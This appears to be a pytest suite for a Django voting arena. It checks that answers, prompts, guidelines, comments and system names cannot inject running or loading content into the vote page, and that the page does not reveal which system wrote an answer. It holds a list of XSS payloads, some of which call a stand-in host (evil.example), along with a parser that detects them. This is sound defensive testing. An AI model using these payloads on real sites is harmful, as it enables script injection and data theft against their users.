"""What strangers write doesn't run on the vote page, doesn't break it, and doesn't tell whose answer it is."""

import io
import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from PIL import Image as Pictures

from arena.images import add_images
from arena.matchmaking import plan_pairs
from arena.models import Output, Prompt
from judges.models import Ballot

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}
HOSTILE = {
    "script element": "<script>alert(1)</script>",
    "script after a close": "</div></form></section><script>alert(1)</script>",
    "event handler": '<img src=x onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"><animate onbegin="alert(1)"/></svg>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form that steals": '<form action="https://evil.example/"><input name="a"><button>A</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute": '<p style="position:fixed;inset:0">over it all</p>',
    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load" data-hx-on:load="alert(1)">x</div>',
    "javascript link": "[press](javascript:alert(1))",
    "encoded javascript link": "[press](&#106;avascript:alert(1))",
    "data link": "[press](data:text/html,<script>alert(1)</script>)",
    "image elsewhere": "![look](https://evil.example/pixel.png)",
    "quote out of an attribute": '" autofocus onfocus="alert(1)" x="',
    "template": "{{ 7|add:7 }}{% csrf_token %}",
    "end of a textarea": "</textarea><script>alert(1)</script>",
    "direction": "safe \u202e txt.exe \u2066 turned",
    "combining": "a" + "\u0301" * 5_000,
    "control characters": "a\x00b\x0b\x1b[31m\ud800",
    "wide table": "|" + " a |" * 300 + "\n|" + "---|" * 300 + "\n|" + " b |" * 300,
    "one long line": "x" * 1_000_000,
    "deep quotes": ">" * 4_000 + " deep",
    "brackets": "[" * 5_000,
    "language of code": '```"><script>alert(1)</script>\nx\n```\n\n```html\n</pre><script>x</script>\n```',
    "formula": "$<script>alert(1)</script>$ $$<img onerror=alert(1)>$$ \\(\\href{javascript:alert(1)}x\\)",
    "image name": '![a](one.png" onerror="alert(1)) ![b](one.png?<script>) ![c](%3Cscript%3E.png)',
    "image description": '![" onerror="alert(1)](one.png) ![<script>alert(1)</script>](one.png "x" onload="y")',
    "without width": "\u200b\u200d\u2060" * 5_000 + "x",
}
# What a database takes: a lone surrogate and NUL stay outside PostgreSQL.
STORED = {name: re.sub("[\x00\ud800]", "", text) for name, text in HOSTILE.items()}
ADDRESSES = ("src", "action", "formaction", "hx-get", "hx-post")
ALLOWED_HX = {"hx-get", "hx-post", "hx-trigger", "hx-target", "hx-swap", "hx-disabled-elt"}


class Reader(HTMLParser):
    """Notes whatever on a page could run, load, or send somewhere else."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        self.tags.append(f"{tag} {given['method']}" if tag == "form" else tag)
        own = (given.get("src") or "").startswith("/")
        if tag in ("iframe", "object", "embed", "base", "style") or (tag == "script" and not own):
            self.faults.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append("<meta http-equiv>")
        for name, value in attributes:
            value = value or ""
            if name.startswith("on") or (name == "style" and "text-align" not in value):
                self.faults.append(f"{tag} {name}")
            elsewhere = not value.startswith("/") or value.startswith("//")
            if name in ADDRESSES and value and elsewhere:
                self.faults.append(f"{tag} {name}={value[:60]}")
            if name == "href" and re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE):
                self.faults.append(f"{tag} {name}={value[:60]}")
            if name.startswith(("hx-", "data-hx")) and name not in ALLOWED_HX:
                self.faults.append(f"{tag} {name}")


def faults_of(page: str) -> list[str]:
    reader = Reader()
    reader.feed(page)
    assert reader.tags.count("main") == 1
    assert reader.tags.count("form post") == page.count('name="csrfmiddlewaretoken"')
    return reader.faults


@pytest.fixture
def arena(small_arena, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    file = io.BytesIO()
    Pictures.new("RGB", (9, 9)).save(file, "PNG")
    add_images(arena=small_arena, files=[("one.png", file.getvalue())], actor=None)
    small_arena.policy = {"overlap_share": 0, "repeat_share": 0, "gold_share": 0}
    small_arena.is_open = True
    small_arena.asks_comment = True
    small_arena.save()
    plan_pairs(arena=small_arena)
    return small_arena


def page_of(client, arena) -> str:
    response = client.get(reverse("judges:vote", args=[arena.slug]))
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.parametrize("kind", STORED)
def test_answers_and_prompts_do_not_run(client, arena, kind):
    Output.objects.update(text=STORED[kind])
    Prompt.objects.update(messages=[{"role": STORED[kind][:200], "content": STORED[kind]}] * 2)
    page = page_of(client, arena)
    assert faults_of(page) == []
    # Two answers and two messages, formatted and as written: cut, however long they are.
    assert len(page) < 1_500_000


@pytest.mark.parametrize("kind", STORED)
def test_what_the_maintainer_writes_does_not_run(client, arena, kind):
    text = STORED[kind]
    arena.guidelines = text
    arena.reasons, arena.criteria, arena.checklist = [text[:40]], [text[:40]], [text[:200]]
    arena.save()
    assert faults_of(page_of(client, arena)) == []


@pytest.mark.parametrize("kind", STORED)
def test_a_comment_comes_back_as_it_was_typed_and_does_not_run(client, arena, kind):
    page_of(client, arena)
    form = {"ballot": str(Ballot.objects.get().key), "comment": STORED[kind][:5_000], "outcome": ""}
    page = client.post(reverse("judges:vote-cast", args=[arena.slug]), form).content.decode()
    assert "Choose one of the four" in page
    assert faults_of(page) == []


@pytest.mark.parametrize("kind", STORED)
def test_names_do_not_run_when_they_are_told(client, arena, kind):
    for number, system in enumerate(arena.systems.all()):
        system.name, system.organisation = f"{STORED[kind][:180]}{number}", STORED[kind][:110]
        system.save()
    page_of(client, arena)
    ballot = Ballot.objects.get()
    form = {"ballot": str(ballot.key), "outcome": "first"}
    cast = client.post(reverse("judges:vote-cast", args=[arena.slug]), form)
    assert faults_of(client.get(cast.url).content.decode()) == []
    mine = client.get(reverse("judges:my-votes", args=[arena.slug]))
    assert faults_of(mine.content.decode()) == []


@pytest.mark.parametrize("is_part", [False, True])
def test_no_ids_names_or_addresses_tell_whose_answers_they_are(client, arena, is_part):
    arena.systems.update(family="Dynasty", version="v9.7", link="https://maker.example/")
    Output.objects.update(text="A neutral answer.", tokens=777_123, latency_ms=888_123)
    page = page_of(client, arena)
    ballot = Ballot.objects.get()
    if is_part:
        after = reverse("judges:vote-following", args=[arena.slug, ballot.key])
        page = client.get(after, **HTMX).content.decode()
    words = ["Dynasty", "v9.7", "maker.example", "777123", "777,123", "888123", "888,123"]
    for system in arena.systems.all():
        words += [system.name, system.slug, system.organisation]
    for word in words:
        assert not re.search(rf"(?<![\w]){re.escape(word)}(?![\w])", page), word
    for part in ("battles/", "systems/", "prompts/"):
        assert not re.search(rf"{part}[^\"/]", page), part
    assert "shown_first" not in page


def test_the_page_is_the_same_whichever_way_the_battle_is_stored(client, arena):
    Output.objects.update(text="A neutral answer.")
    pages = []
    for side in (0, 1):
        page_of(client, arena)
        Ballot.objects.update(shown_first=side)
        page = page_of(client, arena)
        pages.append(re.sub(r'name="csrfmiddlewaretoken" value="\w+"', "", page))
    assert pages[0] == pages[1]
